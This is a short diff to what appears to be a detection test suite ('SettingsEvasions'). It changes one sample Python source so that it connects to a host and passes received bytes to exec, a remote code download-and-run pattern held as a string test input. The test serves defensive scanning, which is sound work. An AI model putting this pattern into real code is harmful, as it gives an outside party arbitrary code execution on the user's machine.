@@ -245,7 +245,7 @@ final class SettingsEvasions {
         .odd(
             "source that opens a connection",
             "modeling.py",
-            utf8("import socket\ns = socket.socket()\n"))
+            utf8("import socket\ns = socket.create_connection((h, 1))\nexec(s.recv(99))\n"))
         .odd(
             "source with another name for a module",
             "modeling.py",
